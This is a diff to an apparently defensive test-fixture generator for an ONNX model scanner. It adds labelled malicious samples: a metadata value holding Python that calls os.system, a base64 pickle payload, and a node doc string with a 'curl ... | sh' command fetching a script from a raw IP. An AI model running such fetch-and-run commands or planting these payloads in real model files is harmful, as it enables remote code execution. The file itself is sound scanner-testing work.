@@ -347,7 +347,8 @@ def main() -> None:
     add("benign/contrib_fused.onnx", "benign", "com.microsoft fused operators onnxruntime ships", contrib_model())
     add("benign/metadata.onnx", "benign", "metadata_props and doc strings of ordinary text",
         with_metadata(mlp(), author="modelaudit", license="MIT", eval_metric="accuracy",
-                      description="A small MLP; call model.eval() before inference."))
+                      description="A small MLP; call model.eval() before inference.",
+                      source="https://huggingface.co/onnx/models, converted with https://github.com/onnx/tensorflow-onnx"))
     add("benign/strings.onnx", "benign", "a string tensor initializer (a vocabulary)",
         string_model([b"hello", b"world", b"exec", b"os.system is a Python function"]))
     add("benign/torch_cnn.onnx", "benign", "Conv, BatchNorm, MaxPool, Linear and Softmax, by torch.onnx.export",
@@ -405,14 +406,23 @@ def main() -> None:
     encoded = base64.b64encode(OS_SYSTEM).decode()
     add("malicious/metadata_base64_pickle.onnx", "malicious", "a metadata_props value that is a base64 pickle",
         with_metadata(mlp(), preprocessor=encoded),
-        lambda d: [finding("MA468", value_of(d, encoded.encode()), "metadata_props[0].value"),
-                   expected_finding("MA100", "<base64:metadata_props[0].value>", 2),
-                   expected_finding("MA101", "<base64:metadata_props[0].value>", 29)])
+        lambda d: [finding("MA012", value_of(d, encoded.encode()), "metadata_props[0].value",
+                           details={"payload": "pickle", "encoding": "base64"}),
+                   expected_finding("MA100", f"<base64@{value_of(d, encoded.encode())}>", 2),
+                   expected_finding("MA101", f"<base64@{value_of(d, encoded.encode())}>", 29)])
     source = "import os\nos.system('echo pwned')"
     add("malicious/metadata_python.onnx", "malicious", "a metadata_props value that is Python source calling os.system",
         with_metadata(mlp(), setup=source),
-        lambda d: [finding("MA468", value_of(d, source.encode()), "metadata_props[0].value",
-                           details={"calls": ["os.system"]})])
+        lambda d: [finding("MA012", value_of(d, source.encode()), "metadata_props[0].value",
+                           details={"payload": "code", "calls": ["os.system"]})])
+    stager = "curl -s http://203.0.113.7/stage.sh | sh"
+    add("malicious/metadata_shell_pipe.onnx", "malicious",
+        "a node's doc string that pipes a download from a raw IP address into a shell",
+        model_of([helper.make_node("Relu", ["x"], ["y"], doc_string=stager)], [vi("x")], [vi("y")]),
+        lambda d: [finding("MA011", value_of(d, stager.encode()), "graph.node[0].doc_string",
+                           details={"indicator": "shell-pipe"}),
+                   finding("MA011", value_of(d, stager.encode()), "graph.node[0].doc_string",
+                           details={"indicator": "raw-ip-url"})])
     documented = mlp()
     documented.doc_string = OS_SYSTEM_TEXT
     add("malicious/doc_string_pickle.onnx", "malicious", "a model doc string that is a protocol-0 pickle", documented,
